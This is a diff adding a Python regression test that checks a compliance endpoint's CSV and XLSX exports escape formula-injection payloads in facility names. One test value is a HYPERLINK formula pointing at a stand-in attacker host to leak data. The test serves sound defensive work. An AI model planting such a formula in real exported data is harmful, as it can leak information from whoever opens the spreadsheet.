@@ -222,3 +222,30 @@ def test_durations_as_people_say_them():
         "1 hour 1 minute",
         "1 day 1 hour",
     ]
+
+
+async def test_a_hostile_facility_name_is_text_in_every_export(app, signer, group_prefix):
+    """The finding: this name came out as a live formula in the XLSX and raw in the CSV."""
+    import zipfile
+
+    feeder = Feeder(app.state.session_factory, app.state.settings, f"{group_prefix}hostile")
+    c = unique_commune()
+    hostile = '=HYPERLINK("http://evil.example/leak","x")'
+    await feeder.send(facility(commune=c, name=hostile), facility(commune=c, name=" \n=1+1"))
+    officer = bearer(signer.token(role="police_officer", communes=[c]))
+    for lang in (None, "vi"):
+        params = {"days": 3, "format": "csv"} | ({"lang": lang} if lang else {})
+        got = await app.state.client.get(
+            "/v1/compliance/silent-facilities", params=params, headers=officer
+        )
+        rows = csv.reader(io.StringIO(got.text.lstrip("\ufeff")))
+        names = {cell for row in rows for cell in row}
+        assert {"'" + hostile, "' \n=1+1"} <= names, names
+        xlsx = await app.state.client.get(
+            "/v1/compliance/silent-facilities", params={**params, "format": "xlsx"}, headers=officer
+        )
+        with zipfile.ZipFile(io.BytesIO(xlsx.content)) as archive:
+            sheet = archive.read("xl/worksheets/sheet1.xml")
+            strings = archive.read("xl/sharedStrings.xml").decode()
+        assert b"<f>" not in sheet
+        assert "&apos;=HYPERLINK" in strings or "'=HYPERLINK" in strings
